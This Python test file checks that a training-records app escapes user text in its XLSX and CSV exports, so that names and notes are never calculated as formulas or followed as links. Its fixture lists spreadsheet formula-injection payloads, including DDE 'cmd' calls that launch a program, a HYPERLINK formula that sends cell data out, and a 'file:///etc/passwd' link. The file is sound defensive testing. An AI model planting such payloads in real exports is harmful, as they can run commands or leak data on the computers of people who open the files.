"""What people type as names and notes is never calculated, called or followed by the program that opens our files."""

import csv
import re
import zipfile
from collections.abc import Callable
from datetime import UTC, datetime
from pathlib import Path

import openpyxl
import pytest

from db.database import Database
from db.models import Course, Enrolment, Enterprise, Person
from trainer_app import reports
from trainer_app.exchange.sending import Scope, send
from trainer_app.programmes.catalogue import load_catalogue
from trainer_app.reports.document import Column, Document, Table

TEXTS = (
    "=1+1", '=HYPERLINK("http://example.org/?"&A1,"Click")', "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "@SUM(1+9)",
    "-2+3+cmd|'!A0", "\t=1+1", "\r=1+1", "\n=1+1", "  =1+1", "＝1+1", "＋1+cmd", "{=1+1}", "http://example.org",
    "mailto:a@b.org", "file:///etc/passwd", "internal:'Sheet1'!A1", "external:c:\\a.xlsx", '"=1+1"', "';=1+1",
    "<f>1+1</f>", "%0A=1+1",
)  # fmt: skip


@pytest.fixture
def database(tmp_path: Path) -> Database:
    database = Database.create(tmp_path / "office.db", kind="office")
    with database.change("rich") as tx:
        for number, text in enumerate(TEXTS):
            course = tx.add(Course(code=f"{text} {number}", title=text, products="SYB", programme="SIYB", venue=text))
            person = tx.add(
                Person(full_name=text, latin_name=text, phones=text, email=text, notes=text, is_trainer=True)
            )
            tx.add(Enrolment(course_id=course.id, person_id=person.id, business_name=text, remark=text))
            tx.add(Enterprise(name=text, owner_name=text, notes=text))
    return database


@pytest.fixture
def workbook(database: Database) -> Path:
    path = database.path.with_name("all.xlsx")
    send(database, path, load_catalogue(), Scope("everything"), sender="=1+1", partner="=1+1")
    return path


def test_no_cell_of_a_workbook_is_a_formula_but_our_own_and_no_link_is_made(workbook: Path) -> None:
    own = re.compile(r"IFERROR\(IF\(INDEX\('Participants'!\$[A-Z]+:\$[A-Z]+,MATCH\(\$A\d+,'Participants'!\$A:\$A,0\)\)")
    with zipfile.ZipFile(workbook) as archive:
        names = archive.namelist()
        parts = {name: archive.read(name).decode() for name in names if name.endswith((".xml", ".rels"))}
    assert not [name for name in names if "externalLink" in name or "vba" in name.lower()]
    for name, part in parts.items():
        assert "<hyperlink" not in part, name
        assert 'TargetMode="External"' not in part, name
        for formula in re.findall(r"<f>(.*?)</f>", part):
            assert own.match(formula), formula
    page = openpyxl.load_workbook(workbook)["Participants"]
    column = next(cell.column for cell in page[1] if cell.value == "participants/person.full_name")
    cells = [page.cell(row, column) for row in range(3, 3 + len(TEXTS))]
    assert {cell.data_type for cell in cells} == {"s"}
    assert all(cell.quotePrefix or cell.number_format == "@" for cell in cells)


def test_libreoffice_calculates_and_follows_nothing_in_it(
    workbook: Path, libreoffice: Callable[..., None], tmp_path: Path
) -> None:
    saved = tmp_path / "saved.ods"
    libreoffice([("open", str(workbook)), ("save", str(saved), "calc8")])
    with zipfile.ZipFile(saved) as archive:
        content = archive.read("content.xml").decode()
    assert not re.findall(r"<text:a ", content)
    formulas = re.findall(r'table:formula="([^"]*)"', content)
    assert all("MATCH" in formula for formula in formulas)


def test_no_line_of_a_csv_begins_a_formula(tmp_path: Path) -> None:
    columns = (Column("name", "=Name"), Column("other", "Other"))
    table = Table("=Table", columns, tuple((text, text) for text in TEXTS), notes=("=note",))
    document = Document("=Title", "+a|b", "", datetime.now(UTC), "@made", (table,))
    path = tmp_path / "a.csv"
    reports.write(document, path)
    with path.open(encoding="utf-8-sig", newline="") as file:
        cells = [cell for line in csv.reader(file) for cell in line]
    assert len(cells) > 2 * len(TEXTS)
    assert not [cell for cell in cells if re.match(r"\s*[=+\-@＝＋－＠]", cell)]
